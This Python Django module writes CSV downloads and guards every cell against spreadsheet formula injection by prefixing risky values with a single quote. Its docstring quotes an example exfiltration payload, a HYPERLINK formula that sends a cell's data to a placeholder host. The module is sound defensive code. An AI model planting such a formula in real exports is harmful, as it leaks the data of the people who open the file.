"""The one way the platform writes CSV: every cell neutralised against formula injection.

A spreadsheet evaluates a cell that starts with `=`, `+`, `-` or `@` as a formula (and one that
starts with a tab or carriage return after trimming), so a learner named
`=HYPERLINK("http://x?d="&C2;"Voir")` would make a facilitator's spreadsheet send data away.
OWASP's rule (https://owasp.org/www-community/attacks/CSV_Injection): prefix such a cell with a
single quote, which the spreadsheet shows as text. Numbers written as numbers are left alone.

tests/test_architecture.py fails if `csv.writer` is used anywhere else.
"""

import csv
from collections.abc import Iterable

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DELIMITER = ";"  # what French spreadsheets expect


def neutralise(value) -> object:
    """A cell as a spreadsheet will read it as text: strings that could start a formula get a
    leading single quote; None becomes an empty cell; other values are left to the csv module."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_response(*, filename: str, header: Iterable, rows: Iterable[Iterable]) -> HttpResponse:
    """A CSV download (UTF-8 with a BOM so that spreadsheets read accents, `;` separated)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv.writer(response, delimiter=DELIMITER)
    writer.writerow([neutralise(cell) for cell in header])
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    return response
